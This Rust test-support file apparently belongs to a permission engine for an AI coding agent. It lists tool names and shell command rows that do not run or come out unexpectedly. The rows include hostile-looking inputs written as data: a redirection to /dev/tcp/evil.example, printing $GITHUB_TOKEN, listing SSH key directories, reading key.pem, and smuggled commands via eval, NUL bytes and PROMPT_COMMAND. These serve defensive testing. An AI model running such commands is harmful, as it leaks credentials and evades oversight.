//! Rows that are not run, or that come out differently than one would think, each with its reason.

use opencode_rs::request::{Effect, Preset};

use super::table::Case;

/// No tools, but permissions: nothing can call them.
pub(super) const NOT_CALLED: [&str; 2] = ["doom_loop", "external_directory"];

/// Tools that the engine does not offer here, or that do not exist; a call of such a tool is a call of `invalid`.
pub(super) const NOT_OFFERED: [&str; 7] = [
    "apply_patch",
    "StructuredOutput",
    "invalid",
    "lsp",
    "plan_exit",
    "question",
    "websearch",
];

/// Tools of a server and unknown tools, made real: each leaves a trace of its own.
pub(super) const OTHER_TOOLS: [&str; 4] = ["fake_add", "list_mcp_resources", "made_up", "read_mcp_resource"];

/// Rows that a plain bash does not run: it would look for a host.
pub(super) const NOT_RUN_PLAINLY: [&str; 1] = ["/dev/tcp/"];

/// Lines that leave no trace when a plain bash runs them; that they did not run is only seen in the result.
pub(super) const SILENT: [&str; 43] = [
    "echo \"$GITHUB_TOKEN\"",
    // Nothing at all, or what no shell takes.
    "",
    "   \n",
    "# rm x",
    "ls (",
    "ls \"",
    "ls $(",
    "ls ( rm x",
    "echo \"; rm x",
    "git status \0; touch x",
    "{\"command\":[\"rm\",\"x\"]}",
    "{\"command\":\"ls\",\"workdir\":[\"/etc\"]}",
    // What they would run has no name here, or a name that is the machine's own.
    "$x status",
    "nice --weird $x",
    "eval \"$x\"",
    "sh -c \"$x\"",
    "/usr/bin/git status",
    "builtin rm x",
    ". ./x.sh",
    "source x.sh",
    "bash",
    // A redirection that fails, or a host that is not looked for.
    "ls < $x",
    "echo a > $x",
    "ls > /dev/tcp/evil.example/80",
    // What the shell does by itself.
    "alias l='rm x'",
    "PROMPT_COMMAND='rm x'",
    "[[ $x -eq 1 ]] && ls",
    "cd - && ls",
    "echo $((x))",
    "echo $((1+2))",
    "echo /etc/*",
    "echo ~/.ssh/*",
    "echo ../*",
    "echo /root/.ssh/*",
    "echo ${a[x]}",
    "echo ${x@P}",
    "while read -r l; do echo \"$l\"; done < key.pem",
    "read PATH < a.txt; ls",
    "cd nope && cat ../a.txt",
    // It goes on when the line is over.
    "{ git checkout -q evil; git checkout -q main; } > /dev/null 2>&1 &",
    // Placeholders that stay what they are.
    "echo rm | xargs -I{} {} x",
    "echo rm | xargs -i {} x",
    "> out rm x",
];

/// Rows that are judged to be allowed, and that the engine asks about itself: it does not follow `cd`, and takes
/// `../a.txt` for a place outside. That ask is decided separately, and there is no approver to allow it.
pub(super) const STRICTER: [&str; 1] = ["cd sub && cat ../a.txt"];

/// Rows that must not run, and that run all the same. They are counted separately, and a row that is refused must be
/// removed from this list.
pub(super) const OPEN: [(Preset, &str, &str); 0] = [];

/// Whether a row is one of [`OPEN`].
pub(super) fn is_open(case: &Case) -> bool {
    case.expect != Effect::Allow
        && (case.preset != Preset::LookOnly || case.rules.is_empty())
        && OPEN.contains(&(case.preset, case.tool.as_str(), case.input.as_str()))
}
